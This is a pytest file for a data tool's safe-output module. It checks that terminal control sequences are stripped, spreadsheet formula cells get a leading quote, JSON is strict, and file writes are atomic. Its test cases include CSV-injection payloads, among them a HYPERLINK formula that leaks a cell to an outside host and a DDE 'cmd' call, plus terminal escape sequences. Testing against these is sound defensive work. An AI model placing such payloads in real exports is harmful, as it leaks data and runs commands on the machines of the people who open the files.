"""Outputs that cannot hurt (cyp_indicators.safe_output): terminals, spreadsheets, JSON, files.

The rules come from outside the code: OWASP's "CSV Injection" page (prefix a cell beginning with
=, +, -, @, tab or carriage return with a single quote), RFC 8259 (JSON has no NaN or Infinity),
ECMA-48 (ESC, CSI 0x9B and OSC 0x9D begin control sequences a terminal acts on).
"""

from __future__ import annotations

import io
import json
import os
import stat
from pathlib import Path

import hypothesis.strategies as st
import polars as pl
import pytest
from hypothesis import given, settings

from cyp_indicators.cli._common import write
from cyp_indicators.errors import DataError
from cyp_indicators.safe_output import (
    SafeStream,
    json_text,
    neutralise_formulas,
    printable,
    refuse_inputs,
    write_atomically,
)

PROPS = settings(max_examples=200, deadline=None)


def _strict_json(text: str) -> object:
    def refuse(token: str) -> None:
        raise AssertionError(f"not JSON: {token}")

    return json.loads(text, parse_constant=refuse)


# --- terminals -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Title\x1b[2J", "Title[2J"),  # ESC [2J: clear the screen
        ("\x1b]0;owned\x07Title", "]0;ownedTitle"),  # OSC: set the window title, ended by BEL
        ("a\x9b31mb", "a31mb"),  # CSI as one C1 byte
        ("a\x9d8;;http://x\x9cb", "a8;;http://xb"),  # OSC 8 hyperlink in C1 form
        ("safe\rEVIL", "safeEVIL"),  # a carriage return that would overwrite the line
        ("abc\u202edcb", "abcdcb"),  # right-to-left override
        ("x\x08\x7fy", "xy"),  # backspace, delete
        ("two\nlines\tand a tab", "two\nlines\tand a tab"),
        ("Peterborough ≥ 72 per 10,000 – café", "Peterborough ≥ 72 per 10,000 – café"),
    ],
)
def test_printable_strips_control_characters_only(text: str, shown: str) -> None:
    """Every character a terminal would act on goes; newlines, tabs and letters stay."""
    assert printable(text) == shown


@PROPS
@given(st.text())
def test_printable_leaves_no_control_character(text: str) -> None:
    """Whatever the text, no C0/C1 control (but newline and tab) or bidi override survives,
    and nothing else is removed."""
    out = printable(text)
    controls = {chr(c) for c in (*range(0x20), 0x7F, *range(0x80, 0xA0))} - {"\n", "\t"}
    controls |= {chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))}
    assert not set(out) & controls
    assert out == "".join(ch for ch in text if ch not in controls)


def test_a_safe_stream_replaces_what_the_console_cannot_encode() -> None:
    """A cp1252 console gets "?" for "≥" instead of a UnicodeEncodeError."""
    raw = io.TextIOWrapper(io.BytesIO(), encoding="cp1252")
    stream = SafeStream(raw)
    stream.write("rate ≥ 72 – café\x1b[2J\n")
    stream.flush()
    raw.seek(0)
    assert raw.read() == "rate ? 72 – café[2J\n"


# --- spreadsheets --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://x/?leak="&A1,"y")', '\'=HYPERLINK("http://x/?leak="&A1,"y")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),  # leading spaces do not hide a formula
        ("-3.5", "-3.5"),  # a number stays a number
        ("+12", "+12"),
        ("-1,234", "-1,234"),
        ("-", "-"),  # DfE's "no figure"
        ("Peterborough", "Peterborough"),
        ("a = b", "a = b"),
        (None, None),
    ],
)
def test_formula_cells_get_a_leading_quote(cell: str | None, written: str | None) -> None:
    """OWASP's rule, and numbers kept as numbers."""
    frame = pl.DataFrame({"text": [cell]}, schema={"text": pl.String})
    assert neutralise_formulas(frame)["text"].to_list() == [written]


def test_categorical_text_is_neutralised_too() -> None:
    """A categorical column is text in a CSV: the same rule."""
    frame = pl.DataFrame({"c": ["=1+1", "ok"]}, schema={"c": pl.Categorical})
    assert neutralise_formulas(frame)["c"].to_list() == ["'=1+1", "ok"]


def test_only_text_columns_change() -> None:
    """Numbers, dates and booleans are written as they are, negative numbers included."""
    frame = pl.DataFrame({"gap": [-3.5, 2.0], "n": [-1, 2], "ok": [True, False]})
    assert neutralise_formulas(frame).equals(frame)


@PROPS
@given(st.lists(st.one_of(st.none(), st.text()), min_size=1, max_size=20))
def test_no_written_cell_starts_a_formula(cells: list[str | None]) -> None:
    """After neutralising, a cell opens with a trigger character only when it is a plain
    number or DfE's lone "-"; the original text always follows the added quote."""
    frame = pl.DataFrame({"text": cells}, schema={"text": pl.String})
    for before, after in zip(cells, neutralise_formulas(frame)["text"].to_list(), strict=True):
        if before is None:
            assert after is None
            continue
        assert after in (before, "'" + before)
        head = after.lstrip(" ")[:1]
        if head in ("=", "+", "-", "@", "\t", "\r"):
            trimmed = after.strip(" ")
            assert trimmed == "-" or _is_plain_number(trimmed)


def _is_plain_number(text: str) -> bool:
    """Whether Python reads the text as a number (thousands separators aside)."""
    try:
        float(text.replace(",", ""))
    except ValueError:
        return False
    return True


# --- JSON ----------------------------------------------------------------------------------------


def test_json_has_null_for_nan_and_infinity() -> None:
    """RFC 8259 has no NaN or Infinity: they are written as null."""
    data = [{"value": float("nan"), "upper": float("inf"), "lower": -float("inf"), "n": 3}]
    assert _strict_json(json_text(data)) == [{"value": None, "upper": None, "lower": None, "n": 3}]


def test_json_escapes_what_a_terminal_or_console_could_not_take() -> None:
    """Controls become \\u escapes (valid JSON, nothing lost); so do characters the console's
    encoding lacks."""
    data = {"title": "a\x1b[2J\x9b ≥ é 😀"}
    text = json_text(data, encoding="cp1252")
    assert "\x1b" not in text
    assert "\x9b" not in text
    assert "≥" not in text
    assert "é" in text  # cp1252 holds it
    text.encode("cp1252")
    assert _strict_json(text) == data


def test_the_command_lines_json_output_is_json(tmp_path: Path) -> None:
    """write() to .json: a frame holding NaN and infinities is written as strict JSON."""
    frame = pl.DataFrame({"la": ["874", "873"], "value": [float("nan"), float("inf")]})
    out = tmp_path / "out.json"
    write(frame, str(out))
    assert _strict_json(out.read_text(encoding="utf-8")) == [
        {"la": "874", "value": None},
        {"la": "873", "value": None},
    ]


# --- files ---------------------------------------------------------------------------------------


def test_a_failed_write_leaves_the_target_and_no_temporary_file(tmp_path: Path) -> None:
    """An error part-way leaves the old file as it was; the partial file is removed."""
    target = tmp_path / "out.csv"
    target.write_text("old\n", encoding="utf-8")

    def half(path: Path) -> None:
        path.write_text("new, half", encoding="utf-8")
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError, match="No space"):
        write_atomically(target, half)
    assert target.read_text(encoding="utf-8") == "old\n"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


def test_an_interrupted_write_leaves_the_target(tmp_path: Path) -> None:
    """Ctrl-C (KeyboardInterrupt) part-way is cleaned up the same way."""
    target = tmp_path / "out.csv"
    target.write_text("old\n", encoding="utf-8")

    def interrupted(path: Path) -> None:
        path.write_text("new, half", encoding="utf-8")
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        write_atomically(target, interrupted)
    assert target.read_text(encoding="utf-8") == "old\n"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


def test_a_replaced_file_keeps_its_permissions_and_a_link_its_target(tmp_path: Path) -> None:
    """The rename replaces the file a link points to, with the replaced file's mode."""
    real = tmp_path / "real.csv"
    real.write_text("old\n", encoding="utf-8")
    real.chmod(0o640)
    link = tmp_path / "link.csv"
    link.symlink_to(real)

    write_atomically(link, lambda p: p.write_text("new\n", encoding="utf-8"))

    assert link.is_symlink()
    assert real.read_text(encoding="utf-8") == "new\n"
    assert stat.S_IMODE(real.stat().st_mode) == 0o640


def test_a_new_file_gets_the_permissions_of_a_new_file(tmp_path: Path) -> None:
    """Not the 0600 of a temporary file: what open() would give under the umask."""
    umask = os.umask(0o022)
    try:
        out = write_atomically(tmp_path / "new.csv", lambda p: p.write_text("x", encoding="utf-8"))
    finally:
        os.umask(umask)
    assert stat.S_IMODE(out.stat().st_mode) == 0o644


def test_a_folder_or_missing_folder_is_refused_before_writing(tmp_path: Path) -> None:
    """Nothing is written for a target that cannot be a file."""
    (tmp_path / "out.csv").mkdir()
    with pytest.raises(DataError, match="it is a folder"):
        write_atomically(tmp_path / "out.csv", lambda p: None)
    with pytest.raises(DataError, match="does not exist"):
        write_atomically(tmp_path / "no" / "out.csv", lambda p: None)


def test_an_output_among_the_inputs_is_refused(tmp_path: Path) -> None:
    """The input file, another name for it, or a file inside an input folder."""
    counts = tmp_path / "counts.csv"
    counts.write_text("x\n", encoding="utf-8")
    records = tmp_path / "records"
    records.mkdir()
    (tmp_path / "alias.csv").symlink_to(counts)

    for output in (counts, tmp_path / "alias.csv", records / "new.csv", records):
        with pytest.raises(DataError):
            refuse_inputs(output, [("--input", counts), ("--records", records)])
    refuse_inputs(tmp_path / "out.csv", [("--input", counts), ("--records", records)])
